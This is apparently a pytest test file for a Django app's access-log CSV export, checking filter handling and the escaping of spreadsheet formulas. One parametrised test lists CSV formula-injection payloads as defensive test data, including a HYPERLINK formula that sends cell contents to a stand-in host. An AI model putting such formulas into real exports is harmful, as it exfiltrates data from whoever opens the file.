"""The access-log export takes exactly the filter on the screen, and writes no formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.conftest import World
from vik import services
from vik.models import AccessAction, AccessLogEntry
from vik.roles import Role

pytestmark = pytest.mark.django_db


def _entry(world: World, *, employee, action: AccessAction, purpose: str = "") -> None:
    services.record_access(
        actor=world.user(Role.ANALYST),
        action=action,
        role=Role.ANALYST,
        employee=employee,
        object_type="monitoring.signal",
        purpose=purpose,
    )


def _rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


@pytest.fixture
def log(world: World) -> None:
    for _ in range(3):
        _entry(world, employee=world.subject, action=AccessAction.VIEW)
        _entry(world, employee=world.colleague, action=AccessAction.VIEW)
    _entry(world, employee=world.subject, action=AccessAction.REVEAL, purpose="Escalatie")


FILTER = {"action": AccessAction.REVEAL.value}


def test_the_filter_lives_in_the_url_and_the_export_link_carries_it(
    world: World, log: None, client_for
) -> None:
    client = client_for(Role.PRIVACY_OFFICER)
    query = {"employee": world.subject.personnel_number, **FILTER}
    page = client.get(reverse("vik:access_log"), query).content.decode()
    # A plain GET form: filtering changes the URL, so back, refresh and a link keep it.
    assert 'method="get"' in page
    assert "hx-get" not in page
    export = f"{reverse('vik:access_log_export')}?employee={world.subject.personnel_number}"
    assert f"{export}&amp;action=reveal" in page
    assert "Deze registratie exporteren als CSV" in page
    # Even a fragment (htmx) answer carries the export link of its own filter.
    fragment = client.get(reverse("vik:access_log"), query, HTTP_HX_REQUEST="true")
    assert f"{export}&amp;action=reveal" in fragment.content.decode()


def test_the_export_takes_exactly_that_filter(world: World, log: None, client_for) -> None:
    client = client_for(Role.PRIVACY_OFFICER)
    query = {"employee": world.subject.personnel_number, **FILTER}
    rows = _rows(client.get(reverse("vik:access_log_export"), query))
    assert rows[0][0] == "Wanneer"
    assert [(row[3], row[8]) for row in rows[1:]] == [
        ("Identiteit onthuld", world.subject.personnel_number)
    ]
    exported = AccessLogEntry.objects.filter(action=AccessAction.EXPORT).get()
    assert exported.employee_id == world.subject.pk
    assert "action=reveal" in exported.query


def test_an_invalid_filter_exports_nothing(world: World, log: None, client_for) -> None:
    client = client_for(Role.PRIVACY_OFFICER)
    response = client.get(reverse("vik:access_log_export"), {"since": "gisteren", **FILTER})
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('vik:access_log')}?since=gisteren&action=reveal"
    page = client.get(response["Location"]).content.decode()
    assert "Het filter is niet geldig" in page
    assert not AccessLogEntry.objects.filter(action=AccessAction.EXPORT).exists()


@pytest.mark.parametrize(
    "reason", ['=HYPERLINK("http://x.example/?q="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]
)
def test_a_formula_in_a_reason_is_exported_as_text(world: World, client_for, reason: str) -> None:
    _entry(world, employee=world.subject, action=AccessAction.REVEAL, purpose=reason)
    response = client_for(Role.PRIVACY_OFFICER).get(reverse("vik:access_log_export"), FILTER)
    rows = _rows(response)
    assert rows[1][9] == f"'{reason}"
